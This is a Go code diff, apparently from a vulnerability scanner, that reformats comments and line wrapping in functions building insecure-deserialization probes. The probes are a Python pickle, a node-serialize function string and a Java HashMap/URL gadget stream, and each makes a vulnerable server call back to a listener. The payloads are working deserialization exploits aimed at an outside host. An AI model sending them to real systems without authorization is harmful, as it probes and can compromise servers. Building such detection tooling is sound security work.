@@ -20,7 +20,8 @@ func object(language string, b attack.Bait) string {
 	case "Java":
 		return javaObject(b.Host)
 	case "Python":
-		return "curllib.request\nurlopen\n(V" + b.Named() + "\nNI3\ntR." // protocol 0: a function, its arguments, and its call
+		// protocol 0: a function, its arguments, and its call
+		return "curllib.request\nurlopen\n(V" + b.Named() + "\nNI3\ntR."
 	case script:
 		function := "_$$ND_FUNC$$_function(){require('http').get('" + b.Named() + "').on('error',function(){})}()"
 		text, err := json.Marshal(map[string]string{"a": function})
@@ -45,7 +46,8 @@ func calls(p *attack.Probe, language string) (bool, error) {
 		b := bait()
 		value := like(p.At.Value, object(language, b))
 		return p.Request.With(p.At, value), []attack.Hook{{Bait: b, Rule: called, At: &p.At, Payload: value,
-			Proof: "The value is an object of " + language + " that makes whoever reads it call a listener; it was called."}}
+			Proof: "The value is an object of " + language + " that makes whoever reads it call a listener; it was " +
+				"called."}}
 	})
 }
 
@@ -68,7 +70,8 @@ func like(value, object string) string {
 // section 6.4) as much as a table needs whose key is an address.
 const (
 	tcNull, tcReference, tcClass, tcObject, tcString, tcBlock, tcEnd = 0x70, 0x71, 0x72, 0x73, 0x74, 0x77, 0x78
-	written                                                          = 3 // flags of a class: serializable, with a method that writes
+	// flags of a class: serializable, with a method that writes
+	written = 3
 )
 
 // Things of a stream have numbers in their order: the class of the table, the table, the class
@@ -133,7 +136,8 @@ func javaObject(host string) string {
 	s.class("java.util.HashMap", 0x0507dac1c31660d1, "FloadFactor", "Ithreshold")
 	s = append(s, 0x3f, 0x40, 0, 0, 0, 0, 0, 12) // 0.75, and 12
 	s = append(s, tcBlock, 8, 0, 0, 0, 16, 0, 0, 0, 1)
-	s.class("java.net.URL", 0x962537361afce472, "IhashCode", "Iport", "Lauthority", "Lfile", "Lhost", "Lprotocol", "Lref")
+	s.class("java.net.URL", 0x962537361afce472, "IhashCode", "Iport", "Lauthority", "Lfile", "Lhost", "Lprotocol",
+		"Lref")
 	s = append(s, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff) // no hash, no port
 	s.text(host)
 	s.text("")
